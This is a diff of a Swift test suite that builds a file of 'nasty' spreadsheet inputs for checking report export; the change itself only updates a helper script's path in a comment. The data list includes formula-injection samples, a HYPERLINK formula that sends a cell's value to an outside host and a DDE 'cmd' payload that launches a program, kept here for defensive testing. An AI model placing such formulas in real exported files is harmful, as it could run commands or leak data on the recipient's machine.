@@ -8,7 +8,7 @@ import Testing
 @testable import Web
 
 /// A file full of what a spreadsheet could run or spoil. Where the environment names a path in `CSV_SAMPLE`, the
-/// file is written there for `Tests/Spreadsheet/open_csv.py`, which opens it in a real spreadsheet.
+/// file is written there for `Tests/System/Spreadsheet/open_csv.py`, which opens it in a real spreadsheet.
 @Suite struct NastyReportTests {
   private static let texts = [
     "=1+1", "=HYPERLINK(\"https://example.org/?\"&A1,\"open\")", "=cmd|' /C calc'!A0", "+49 30 901820", "-5 kg", "-5",
